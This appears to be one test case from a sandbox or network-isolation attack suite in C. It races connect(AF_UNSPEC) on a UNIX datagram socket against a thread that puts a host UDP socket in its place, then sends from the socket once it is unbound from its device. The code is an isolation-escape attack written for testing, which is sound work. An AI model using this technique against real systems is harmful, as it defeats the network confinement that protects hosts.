/* Dissolves a UNIX socket with connect(AF_UNSPEC), has another thread put a UDP socket of the
 * host in its place meanwhile, and sends from that when it is bound to no device any more. */
#include "attack.h"
static void call(int fd) { connect(fd, &unspec_address, sizeof unspec_address); }
static bool won(void) { return !connected_to(host, &remote); }

static void attack(void) {
    int fd = connected(SOCK_DGRAM);
    if (race(must(socket(AF_UNIX, SOCK_DGRAM, 0), "socket"), fd, call, won)) reach_by_datagram(fd);
}
